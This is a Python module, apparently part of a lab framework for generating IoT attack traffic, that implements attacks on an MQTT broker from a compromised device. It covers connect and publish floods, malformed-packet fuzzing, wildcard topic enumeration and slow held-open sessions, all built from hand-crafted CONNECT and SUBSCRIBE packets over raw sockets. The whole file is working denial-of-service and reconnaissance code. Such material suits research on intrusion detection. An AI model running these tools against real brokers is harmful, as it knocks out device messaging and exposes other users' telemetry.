"""Attacks on the broker from a taken-over device."""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import threading
import time

from emtc_lab.attacks.base import Aim, attack, own, tool

_PORT = 1883


@attack("mqtt-connect-flood", "mqtt", "device", "broker")
def connect_flood(aim: Aim) -> list[str]:
    """Sessions that are opened and dropped."""
    return own("mqtt_connect", aim.victim, f"{aim.rate((15, 50), (0.5, 2)):.2f}", f"{aim.seconds:.0f}")


@attack("mqtt-publish-flood", "mqtt", "device", "broker")
def publish_flood(aim: Aim) -> list[str]:
    """Messages without end over one session."""
    rate = aim.rate((40, 150), (4, 12))
    amount = ["--repeat", str(int(rate * aim.seconds)), "--repeat-delay", f"{1 / rate:.4f}"]
    message = "x" * aim.rng.choice([8, 64, 200])
    return ["mosquitto_pub", "-h", aim.victim, "-t", "site/all/telemetry", "-m", message, *amount]


@attack("mqtt-malformed", "mqtt", "device", "broker")
def malformed(aim: Aim) -> list[str]:
    """Packets that no client sends."""
    rate = f"{aim.rate((5, 20), (0.2, 0.8)):.2f}"
    return own("mqtt_malformed", aim.victim, rate, f"{aim.seconds:.0f}", aim.rng.randrange(10**6))


@attack("mqtt-topic-enumeration", "mqtt", "device", "broker", ok=(0, 27))
def topic_enumeration(aim: Aim) -> list[str]:
    """Listening to everything, or to one guess after the other."""
    if aim.loud:
        return ["mosquitto_sub", "-h", aim.victim, "-t", "#", "-t", "$SYS/#", "-W", f"{aim.seconds:.0f}"]
    return own("mqtt_guess_topics", aim.victim, f"{aim.rate((1, 1), (0.2, 0.5)):.2f}", f"{aim.seconds:.0f}")


@attack("mqtt-slow-sessions", "mqtt", "device", "broker")
def slow_sessions(aim: Aim) -> list[str]:
    """Many sessions held open and fed byte by byte."""
    return own("mqtt_hold", aim.victim, aim.rng.randint(60, 150) if aim.loud else 12, f"{aim.seconds:.0f}")


def connect_packet(name: bytes, keepalive_s: int = 60) -> bytes:
    """An MQTT 3.1.1 CONNECT (section 3.1 of the standard)."""
    body = b"\x00\x04MQTT\x04\x02" + struct.pack(">HH", keepalive_s, len(name)) + name
    return bytes([0x10, len(body)]) + body


def _paced(rate: str, seconds: str) -> range:
    return range(max(int(float(rate) * float(seconds)), 2))


@tool
def mqtt_connect(broker: str, rate: str, seconds: str) -> None:
    """Open sessions, wait for the answer, drop them."""
    for number in _paced(rate, seconds):
        with socket.create_connection((broker, _PORT), timeout=10) as connection:
            connection.sendall(connect_packet(b"bot%d" % number))
            connection.recv(16)
        threading.Event().wait(1 / float(rate))


@tool
def mqtt_malformed(broker: str, rate: str, seconds: str, seed: str) -> None:
    """Bad lengths, bad types, truncated and oversized packets."""
    rng = random.Random(seed)
    for _ in _paced(rate, seconds):
        good = bytearray(connect_packet(b"bot"))
        good[rng.randrange(len(good))] = rng.randrange(256)
        packet = rng.choice([bytes(good), b"\xf0\xff\xff\xff\x7f", rng.randbytes(40), bytes(good[:7])])
        with socket.create_connection((broker, _PORT), timeout=10) as connection:
            connection.settimeout(1)
            connection.sendall(packet)
            with contextlib.suppress(OSError):
                connection.recv(16)
        threading.Event().wait(1 / float(rate))


@tool
def mqtt_guess_topics(broker: str, rate: str, seconds: str) -> None:
    """One session per guess: CONNECT, SUBSCRIBE, listen a little."""
    for number in _paced(rate, seconds):
        topic = b"site/d%d/#" % number
        subscribe = struct.pack(">HH", 1, len(topic)) + topic + b"\x00"
        with socket.create_connection((broker, _PORT), timeout=10) as connection:
            connection.sendall(connect_packet(b"guess%d" % number))
            connection.recv(16)
            connection.sendall(bytes([0x82, len(subscribe)]) + subscribe)
            connection.recv(256)
            threading.Event().wait(1 / float(rate))


@tool
def mqtt_hold(broker: str, sessions: str, seconds: str) -> None:
    """Open sessions one after the other and feed each a byte of its CONNECT every second."""
    end = time.monotonic() + float(seconds)
    held: list[tuple[socket.socket, bytes]] = []
    while time.monotonic() < end:
        if len(held) < int(sessions):
            held += [
                (socket.create_connection((broker, _PORT), timeout=10), connect_packet(b"slow%d" % number))
                for number in range(min(10, int(sessions) - len(held)))
            ]
        held = [(connection, _feed(connection, rest)) for connection, rest in held]
        threading.Event().wait(1)


def _feed(connection: socket.socket, rest: bytes) -> bytes:
    try:
        connection.send(rest[:1])
    except OSError:
        return b""
    return rest[1:]
